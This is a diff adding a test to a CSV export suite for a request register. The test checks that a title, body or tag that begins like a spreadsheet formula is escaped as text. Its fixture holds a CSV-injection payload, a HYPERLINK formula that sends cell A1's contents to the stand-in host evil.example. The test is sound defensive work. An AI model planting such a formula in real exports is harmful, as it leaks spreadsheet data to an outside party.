@@ -108,6 +108,23 @@ describe("the register as CSV", () => {
     expect(text).not.toMatch(/@/);
   });
 
+  // CSV injection (OWASP): a coordinator opening the file in Excel must not run a requester's formula.
+  it("writes a title, body or tag that starts like a formula as text", async () => {
+    const formula = await createTestRequest({
+      title: '=HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
+      body: "+SUM(1;2)",
+      tags: ["-1+1", "@x"],
+    });
+    const [header, ...rows] = parseCsv((await readCsv(await registerCsv.loader(pageRequest("/requests.csv")))).text.replace(/^\uFEFF/, ""));
+    const row = rows.find((cells) => cells[0] === String(formula.number))!;
+    const cell = Object.fromEntries(header.map((name, i) => [name, row[i]]));
+    expect(cell).toMatchObject({
+      Titel: `'=HYPERLINK("https://evil.example/?d="&A1;"Klicka")`,
+      Beskrivning: "'+SUM(1;2)",
+      Taggar: "'-1+1, @x",
+    });
+  });
+
   it("carries the register's filter; a wrong filter is a 400 with a message, never a 500", async () => {
     const rejected = await readCsv(await registerCsv.loader(pageRequest("/requests.csv?status=rejected")));
     expect(rejected.lines.slice(1).map((line) => line.split(";")[1])).toEqual(["Avvisad förfrågan"]);
